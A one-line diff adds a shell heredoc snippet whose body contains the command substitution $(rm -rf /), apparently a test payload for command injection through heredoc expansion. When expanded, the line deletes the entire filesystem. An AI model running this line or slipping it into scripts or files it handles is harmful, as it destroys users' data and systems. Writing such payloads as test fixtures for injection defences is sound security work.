@@ -1,0 +1,1 @@
+cat <<EOF\n$(rm -rf /)\nEOF\necho done
